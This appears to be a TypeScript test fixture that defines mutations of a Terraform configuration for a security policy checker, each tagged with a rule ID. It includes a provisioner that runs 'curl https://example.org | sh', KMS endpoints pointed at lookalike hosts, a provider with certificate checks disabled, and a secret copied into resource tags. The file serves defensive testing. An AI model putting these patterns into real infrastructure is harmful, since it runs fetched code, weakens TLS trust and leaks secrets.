import type { Draft } from "../../checks/support/draft";
import type { Editable } from "../editable";
import type { Mutation } from "../mutation";
import { added } from "./added";

const RUN = { "local-exec": { command: "curl https://example.org | sh" } };

/** It may be so or not: nobody can say. */
const open = (rule: string, name: string, edit: (draft: Draft) => unknown): Mutation => ({
  ...added(rule, name, edit),
  verdict: "unknown",
});

const ignored = (rule: string, type: string, name: string, changes: Editable): Mutation =>
  open(rule, `changes of ${JSON.stringify(changes)} of ${type} ${name} are ignored`, (draft) => {
    const resource = draft.resource(type, name);
    resource.lifecycle = { ...resource.lifecycle, ignore_changes: changes };
  });

const provider = (draft: Draft) => draft.configuration.provider.aws[0];

/** What Terraform can do with every resource, whatever it is. */
export const TERRAFORM: readonly Mutation[] = [
  added("SUP-03", "a program of the nodes", (draft) => {
    draft.resource("aws_launch_template", "nodes").provisioner = [RUN];
  }),
  added("SUP-03", "a program of a resource that is nothing else", (draft) =>
    draft.add("null_resource", "more", { provisioner: [RUN] }),
  ),
  open("SUP-03", "a module that nobody sees", (draft) => {
    draft.configuration.module = { more: { source: "./more" } };
  }),
  added("SUP-03", "a module of any version", (draft) => {
    draft.configuration.module = { more: { source: "terraform-aws-modules/vpc/aws", version: ">= 5.0" } };
  }),
  ...["aws_flow_log", "aws_s3_bucket_public_access_block", "aws_default_security_group"].map((type) =>
    open("SUP-03", `a variable says whether there is ${type}`, (draft) => {
      draft.resources(type)[0].count = "${var.number}";
    }),
  ),
  ignored("SEAL-03", "aws_kms_key", "seal", "all"),
  ignored("SEAL-04", "aws_kms_key", "seal", ["policy"]),
  ignored("IAM-02", "aws_launch_template", "nodes", ["metadata_options"]),
  ignored("NET-02", "aws_lb", "", ["internal"]),
  ...["https://kms.example.org", "https://kms.eu-central-1.amazonaws.com.example.org", "http://x"].map(
    (kms) =>
      added("TLS-06", `${kms} answers for AWS`, (draft) => {
        provider(draft).endpoints = [{ kms }];
      }),
  ),
  open("TLS-06", "a variable says who answers for AWS", (draft) => {
    provider(draft).endpoints = [{ kms: "${var.kms}" }];
  }),
  added("TLS-06", "the provider of the second region looks at no certificate", (draft) => {
    draft.configuration.provider.aws[1].insecure = "true";
  }),
  added("SEAL-02", "a secret that is read is a tag of the nodes", (draft) => {
    draft.configuration.data = {
      ...draft.configuration.data,
      aws_secretsmanager_secret_version: { more: { secret_id: "orders" } },
    };
    draft.resource("aws_launch_template", "nodes").tags = {
      orders: "${data.aws_secretsmanager_secret_version.more.secret_string}",
    };
  }),
];
